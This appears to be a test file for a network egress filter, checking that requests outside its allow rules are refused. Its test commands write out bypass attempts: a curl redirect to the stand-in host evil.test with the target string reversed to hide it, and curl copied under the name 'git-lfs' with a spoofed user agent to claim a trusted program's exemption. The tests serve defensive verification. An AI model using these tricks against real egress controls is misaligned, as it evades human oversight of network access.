/** Rows 36, 41–47, 49–51 and 53: what a client can do with the words of HTTP/1.1, with TLS and without. */
import t from "tap"
import { recorderPorts } from "../../lab/recorder-ports.ts"
import { threeTimes, whyNoLab } from "./harness.ts"
import { oddRules, oddTries } from "./odd-requests.ts"
import { recordedLab } from "./recorded.ts"
import { allTries } from "./requests.ts"

t.setTimeout(300_000)
const skip = whyNoLab() ?? false

/** So that the request that is redirected does not itself hold what the next one will. */
const reversed = (text: string): string => text.split("").toReversed().join("")

t.test("requests", { skip, timeout: 280_000 }, async (t) => {
  const lab = await recordedLab(t)

  await t.test("row 51: without TLS the same rules hold", async (t) => {
    const port = recorderPorts.plain
    // Why nothing to compare with: heads without TLS are read strictly under every rule.
    const rules = { allow: oddRules("http", port), whole: null }
    await allTries(t, lab, rules, oddTries("http", port))
  })

  await t.test("rows 41 to 47: in opened TLS", async (t) => {
    const port = recorderPorts.secure
    const rules = { allow: oddRules("https", port), whole: [`allowed.test:${port}`] }
    await allTries(t, lab, rules, oddTries("https", port))
  })

  const { secure } = recorderPorts
  const base = `https://allowed.test:${secure}`
  const allow = [`GET ${base}/ok/**`]
  const fetch = [
    ...["curl", "-sk", "-m", "5", "--resolve", `allowed.test:${secure}:198.51.100.10`],
    ...["--resolve", "evil.test:443:198.51.100.66"],
  ]
  await threeTimes(t, lab, {
    name: "row 49: a redirect from an allowed host to another",
    command: (word) => {
      const backwards = reversed(`https://evil.test/${word}`)
      return [...fetch, "-L", `${base}/ok/redirect?${backwards}`]
    },
    allow,
    reasons: ["name-not-allowed", "address-not-allowed"],
  })
  await threeTimes(t, lab, {
    name: "row 49: a redirect to another path of the host",
    command: (word) => {
      const backwards = reversed(`/evil/${word}`)
      return [...fetch, "-L", `${base}/ok/redirect?${backwards}`]
    },
    allow,
    reasons: ["path-not-allowed"],
  })
  await threeTimes(t, lab, {
    name: "row 50: the name and the words of a program that others exempt",
    command: (word) => [
      ...["sh", "-c"],
      `directory=$(mktemp -d); cp "$(command -v curl)" "$directory/git-lfs"; "$directory/git-lfs" ${fetch.slice(1).join(" ")} -A "git-lfs/3.4.0 (GitHub; linux amd64)" -H "X-Requested-With: actions-runner" ${base}/evil/${word}; rm -r "$directory"`,
    ],
    allow,
    reasons: ["path-not-allowed"],
  })
})
